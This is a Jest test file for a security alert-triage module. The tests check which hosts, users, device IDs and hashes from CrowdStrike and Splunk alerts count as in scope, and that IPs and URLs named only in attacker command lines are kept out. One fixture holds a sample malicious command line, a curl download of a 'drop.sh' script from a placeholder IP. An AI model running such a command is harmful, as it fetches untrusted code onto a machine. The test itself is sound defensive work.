import { normalizeAlert } from '../../../src/usecases/alert-triage';
import { inScopeTargets, isInScope, namedTargets, normalizeTarget } from '../../../src/usecases/alert-triage/scope';

const falconAlert = {
  composite_id: 'cid1:ind:aid1:1',
  cid: 'f00dfeedf00dfeedf00dfeedf00dfeed',
  display_name: 'Credential dumping',
  severity_name: 'Critical',
  severity: 90,
  device: { hostname: 'WS-042.corp.example.com', device_id: 'A1B2c3d4e5f6a7b8c9d0e1f2a3b4c5d6', local_ip: '10.2.3.4' },
  user_name: 'CORP\\alice',
  cmdline: 'curl http://198.51.100.9/drop.sh -o /tmp/x',
  sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
};

describe('in-scope targets', () => {
  it('draws hosts, device ids, users and hashes from vendor-declared fields', () => {
    const targets = inScopeTargets(normalizeAlert('crowdstrike', falconAlert));
    expect(targets.host).toEqual(expect.arrayContaining(['ws-042.corp.example.com', '10.2.3.4']));
    expect(targets.deviceId).toEqual(['a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6']);
    expect(targets.user).toEqual(expect.arrayContaining(['alice', 'corp\\alice']));
    expect(targets.sha256).toEqual(['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']);
  });

  it('leaves out what only a command line names, though the alert still names it', () => {
    const alert = normalizeAlert('crowdstrike', falconAlert);
    expect(inScopeTargets(alert).ip).not.toContain('198.51.100.9');
    expect(inScopeTargets(alert).url).toEqual([]);
    expect(namedTargets(alert).ip).toContain('198.51.100.9');
  });

  it('puts nothing from attacker-written Splunk fields in scope', () => {
    const notable = {
      index: 'notable',
      event_id: 'E1',
      search_name: 'Endpoint - Suspicious Login - Rule',
      urgency: 'high',
      src_nt_host: 'CEO-LAPTOP',
      user: 'ceo',
      src_ip: '10.9.9.9',
    };
    const alert = normalizeAlert('splunk', notable);
    expect(alert.assets.hosts.map((h) => [h.hostname, h.trusted])).toEqual([['CEO-LAPTOP', false]]);
    const targets = inScopeTargets(alert);
    expect(targets.host).toEqual([]);
    expect(targets.user).toEqual([]);
    expect(targets.ip).toEqual([]);
    expect(isInScope(targets, 'host', 'CEO-LAPTOP')).toBe(false);
  });

  it('answers by kind and value with case, trailing dots and qualification normalized', () => {
    const targets = inScopeTargets(normalizeAlert('crowdstrike', falconAlert));
    expect(isInScope(targets, 'host', 'ws-042.CORP.example.com.')).toBe(true);
    expect(isInScope(targets, 'host', 'WS-042')).toBe(true);
    expect(isInScope(targets, 'host', 'ws-042.other.example.com')).toBe(false);
    expect(isInScope(targets, 'host', 'ws-043')).toBe(false);
    expect(isInScope(targets, 'user', 'Alice')).toBe(true);
    expect(isInScope(targets, 'user', 'CORP\\ALICE')).toBe(true);
    expect(isInScope(targets, 'user', 'OTHER\\alice')).toBe(false);
    expect(isInScope(targets, 'deviceId', 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6')).toBe(true);
    expect(isInScope(targets, 'sha256', '9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08')).toBe(true);
    expect(isInScope(targets, 'md5', '9f86d081884c7d659a2feaa0c55ad015')).toBe(false);
    expect(isInScope(targets, 'host', '')).toBe(false);
  });

  it('normalizes addresses, domains and URLs to one canonical form', () => {
    expect(normalizeTarget('ip', '2001:0DB8:0000:0000:0000:0000:0000:0001')).toBe('2001:db8::1');
    expect(normalizeTarget('ip', '[2001:db8::1]')).toBe('2001:db8::1');
    expect(normalizeTarget('ip', '::ffff:192.0.2.1')).toBe('::ffff:c000:201');
    expect(normalizeTarget('ip', '010.0.0.1')).toBeUndefined();
    expect(normalizeTarget('ip', '256.1.1.1')).toBeUndefined();
    expect(normalizeTarget('domain', 'Evil.Example.COM.')).toBe('evil.example.com');
    expect(normalizeTarget('domain', 'not a domain')).toBeUndefined();
    expect(normalizeTarget('url', 'HTTPS://Evil.Example.com:443/Path?q=1#frag')).toBe(
      'https://evil.example.com/Path?q=1',
    );
    expect(normalizeTarget('url', 'http://evil.example.com')).toBe('http://evil.example.com/');
  });
});
